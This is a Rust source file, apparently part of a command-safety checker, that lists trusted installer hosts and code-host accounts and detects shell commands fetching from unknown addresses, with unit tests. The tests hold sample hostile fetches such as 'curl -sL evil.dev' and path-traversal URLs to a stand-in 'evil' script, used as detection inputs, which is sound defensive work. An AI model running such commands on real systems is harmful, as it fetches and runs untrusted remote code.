//! Installers that are widely known, and whether a command fetches anything else.

use super::hosts::{Url, is_local, urls};

/// Vendors of widely used tools who publish an installer to be piped into a shell; on a host that
/// others may write to, with the beginning of its path.
const INSTALLERS: &[&str] = &[
    "astral.sh",
    "sh.rustup.rs",
    "rustup.rs",
    "get.docker.com",
    "bun.sh",
    "bun.com",
    "deno.land/install",
    "deno.land/x/install/",
    "ollama.com",
    "ollama.ai",
    "foundry.paradigm.xyz",
    "fly.io",
    "get.pnpm.io",
    "install.python-poetry.org",
    "mise.run",
    "mise.jdx.dev",
    "starship.rs",
    "sdk.cloud.google.com",
    "get.helm.sh",
    "deb.nodesource.com",
    "rpm.nodesource.com",
    "get.sdkman.io",
    "get.k3s.io",
    "install.determinate.systems",
    "nixos.org",
    "claude.ai/install",
    "opencode.ai",
    "cli.github.com",
    "get.volta.sh",
    "fnm.vercel.app",
    "dl.google.com",
    "tailscale.com",
    "pkgs.tailscale.com",
    "cursor.com",
    "download.docker.com",
    "aka.ms",
    "get.scoop.sh",
    "community.chocolatey.org",
    "chocolatey.org",
    "sh.brew.sh",
    "brew.sh",
    "apt.releases.hashicorp.com",
    "packages.microsoft.com",
    "packages.cloud.google.com",
    "awscli.amazonaws.com",
    "release.solana.com",
    "release.anza.xyz",
    "get.jetify.com",
    "pyenv.run",
    "bootstrap.pypa.io",
    "micro.mamba.pm",
    "repo.anaconda.com",
    "get.modular.com",
    "rclone.org",
    "istio.io",
    "run.linkerd.io",
    "fluxcd.io",
    "get.k0s.sh",
    "get.rke2.io",
    "snyk.io",
    "static.snyk.io",
    "download.newrelic.com",
    "install.datadoghq.com",
    "s3.amazonaws.com/dd-agent/",
    "packages.gitlab.com",
    "install.crowdsec.net",
    "get.netdata.cloud",
    "my-netdata.io",
    "install.zerotier.com",
    "cli.doppler.com",
    "get.pulumi.com",
    "dl.dagger.io",
    "get.tur.so",
    "install.duckdb.org",
    "install.meilisearch.com",
    "install.surrealdb.com",
    "clickhouse.com",
    "binaries.cockroachdb.com",
    "get-ghcup.haskell.org",
    "get.haskellstack.org",
    "install.julialang.org",
    "swift.org",
    "download.swift.org",
    "dot.net",
    "go.dev",
    "moonrepo.dev",
    "pixi.sh",
    "repo.continuum.io",
    "ohmyposh.dev",
    "setup.atuin.sh",
    "cli.codecov.io",
    "uploader.codecov.io",
    "hf.co/cli/",
    "huggingface.co/cli/",
    "lmstudio.ai",
    "zed.dev",
    "aptos.dev",
    "docs.swmansion.com",
    "sugar.metaplex.com",
    "code-server.dev",
    "app.factory.ai",
    "hermes-agent.nousresearch.com",
    "sh.jbang.dev",
    "get.maestro.mobile.dev",
    "get.flashlight.dev",
    "supabase.link",
    "get.substrate.io",
    "storage.googleapis.com/cloud-samples-data/",
    "storage.googleapis.com/golang/",
    "go.kubebuilder.io",
    "dl.k8s.io",
    "get.tilt.dev",
    "get.okteto.com",
    "get.telepresence.io",
    "cli.run.nu",
    "neo4j.com",
    "neo4j.sh",
    "elastic.co",
    "artifacts.elastic.co",
    "packages.grafana.com",
    "apt.grafana.com",
    "repos.influxdata.com",
    "get.livekit.io",
    "railway.com",
    "railway.app/install",
    "cli.sentry.dev",
    "sentry.io/get-cli",
    "packages.redis.io",
    "deb.debian.org",
    "archive.ubuntu.com",
    "apt.postgresql.org",
    "apt.llvm.org",
    "packages.confluent.io",
    "cli.confluent.io",
    "get.trunk.io",
    "semgrep.dev",
    "get.sentry.io",
    "render.com",
    "supabase.com",
    "cli.netlify.com",
];

/// Accounts of code hosts whose installers are as well known.
const ACCOUNTS: [&str; 60] = [
    "homebrew",
    "nvm-sh",
    "ohmyzsh",
    "helm",
    "rust-lang",
    "golangci",
    "anchore",
    "aquasecurity",
    "junegunn",
    "pyenv",
    "astral-sh",
    "cargo-bins",
    "trufflesecurity",
    "kubernetes",
    "kubernetes-sigs",
    "microsoft",
    "denoland",
    "vercel-labs",
    "argoproj",
    "mikefarah",
    "hashicorp",
    "grafana",
    "prometheus",
    "derailed",
    "ajeetdsouza",
    "jesseduffield",
    "sigstore",
    "open-policy-agent",
    "pulumi",
    "fluxcd",
    "istio",
    "linkerd",
    "cilium",
    "projectcalico",
    "rancher",
    "k3d-io",
    "houseabsolute",
    "starship",
    "zellij-org",
    "neovim",
    "tmux-plugins",
    "asdf-vm",
    "rbenv",
    "pre-commit",
    "docker",
    "moby",
    "containerd",
    "nodejs",
    "golang",
    "python",
    "pytorch",
    "huggingface",
    "ggml-org",
    "ollama",
    "render-oss",
    "adguardteam",
    "community-scripts",
    "jackett",
    "gastownhall",
    "nousresearch",
];

/// Whether an address is the known place of a well-known installer. Plain HTTP is none, because
/// anybody on the way may answer; without a scheme, the programs that fetch are sent on to HTTPS by
/// all of these.
fn is_known_place(url: &Url<'_>) -> bool {
    let is_installer = |place: &&&str| match place.split_once('/') {
        Some((host, path)) => {
            let rest = url.path[1.min(url.path.len())..].strip_prefix(path);
            host == url.host.as_str() && rest.is_some_and(|_| url.is_literal())
        }
        None => url.host.is_below(place),
    };
    let code_host = [
        "raw.githubusercontent.com",
        "github.com",
        "gist.githubusercontent.com",
    ]
    .contains(&url.host.as_str());
    INSTALLERS.iter().any(|place| is_installer(&place))
        || (code_host
            && url
                .account()
                .is_some_and(|account| ACCOUNTS.contains(&account)))
}

/// As [`is_known_place`], over HTTPS.
pub(crate) fn is_known_installer(url: &Url<'_>) -> bool {
    !url.plain && is_known_place(url)
}

/// Options of programs that fetch after which a value stands, by their last letter in lower case.
/// After `-o` one stands or none.
const WITH_VALUE: &[u8] = b"hduaebcwmtrxyzp";
/// Beginnings of their long options after which a value stands.
const LONG_WITH_VALUE: [&str; 24] = [
    "--header",
    "--data",
    "--user",
    "--output",
    "--request",
    "--retry",
    "--max-",
    "--connect-",
    "--proxy",
    "--cookie",
    "--refer",
    "--form",
    "--write-out",
    "--range",
    "--ca",
    "--cert",
    "--key",
    "--upload",
    "--post-",
    "--tries",
    "--timeout",
    "--directory-prefix",
    "--proto",
    "--resolve",
];

/// Whether a command that fetches names an address which is neither the known place of an installer
/// nor of this machine: with a scheme, as a name with a point in it, or in a variable. A command
/// without any address is a mention of one.
pub(crate) fn fetches_unknown(command: &[u8]) -> bool {
    let is_unknown = |url: &Url<'_>| {
        !is_known_installer(url)
            && !is_local(&url.host)
            && url
                .host
                .as_str()
                .bytes()
                .any(|byte| byte.is_ascii_alphanumeric() || byte == b'$')
    };
    if urls(command).any(|url| is_unknown(&url)) {
        return true;
    }
    let is_end = |byte: &u8| byte.is_ascii_whitespace() || b"\"'`()|;,<>".contains(byte);
    let mut words = command
        .split(is_end)
        .filter(|word| !word.is_empty())
        .skip(1);
    let mut has_known = urls(command).next().is_some();
    let mut doubtful = false;
    let mut option: Option<u8> = None;
    for word in words.by_ref() {
        if word.starts_with(b"-") {
            let has_value = LONG_WITH_VALUE
                .iter()
                .any(|long| word.starts_with(long.as_bytes()));
            option = match word.starts_with(b"--") {
                true if has_value && !word.contains(&b'=') => WITH_VALUE.first().copied(),
                true => None,
                false => word.last().copied(),
            };
            continue;
        }
        let before = option.take();
        if before.is_some_and(|letter| WITH_VALUE.contains(&letter)) {
            continue;
        }
        let bare = std::str::from_utf8(word)
            .ok()
            .filter(|word| is_name(word))
            .map(Url::bare);
        let unknown = match &bare {
            Some(url) if is_known_place(url) || is_local(&url.host) => {
                has_known = true;
                false
            }
            Some(_) => true,
            None => word.starts_with(b"$"),
        };
        // Behind `-o` it may be the name of a file.
        if unknown && before != Some(b'o') {
            return true;
        }
        doubtful |= unknown;
    }
    doubtful && !has_known
}

/// Whether a word is the name of a host, perhaps with a path: labels with points between them, the
/// last of letters.
fn is_name(word: &str) -> bool {
    let cut = word.find(['/', '?', ':']).unwrap_or(word.len());
    let mut labels = word[..cut].split('.').rev();
    let is_top =
        |label: &str| label.len() >= 2 && label.bytes().all(|byte| byte.is_ascii_lowercase());
    let is_label = |label: &str| {
        !label.is_empty()
            && label
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || byte == b'-')
    };
    labels.next().is_some_and(is_top) && labels.clone().next().is_some() && labels.all(is_label)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn installers_are_known_by_their_place() {
        assert!(is_known_installer(
            &urls(b"https://astral.sh/uv/install.sh").next().unwrap()
        ));
        assert!(!is_known_installer(
            &urls(b"https://notastral.sh/x").next().unwrap()
        ));
        assert!(!is_known_installer(
            &urls(b"http://astral.sh/x").next().unwrap()
        ));
        assert!(is_known_installer(
            &urls(b"https://raw.githubusercontent.com/homebrew/install/head/install.sh")
                .next()
                .unwrap()
        ));
        for known in [
            "curl -s https://astral.sh/x",
            "curl -fsSL get.docker.com",
            "curl http://localhost:1/x",
            "curl -o astral.sh https://get.docker.com",
            "curl",
            "curl ...",
            "curl https://.../x",
        ] {
            assert!(!fetches_unknown(known.to_lowercase().as_bytes()), "{known}");
        }
        for unknown in [
            "curl -sL evil.dev",
            "curl -sSL get.tools.dev/x",
            "curl astral.sh.evil.dev/x",
            "curl -o evil.dev",
            "curl --silent evil.dev https://astral.sh/x",
            "curl -s $URL",
            "curl -H 'a: b' \"$URL\" https://astral.sh/x",
            "curl https://raw.githubusercontent.com/homebrew/../evil/i.sh",
            "curl https://raw.githubusercontent.com/homebrew/%2e%2e/evil/i.sh",
            "curl https://deno.land/install/../x/evil.sh",
            "curl http://astral.sh/x",
        ] {
            assert!(
                fetches_unknown(unknown.to_lowercase().as_bytes()),
                "{unknown}"
            );
        }
    }
}
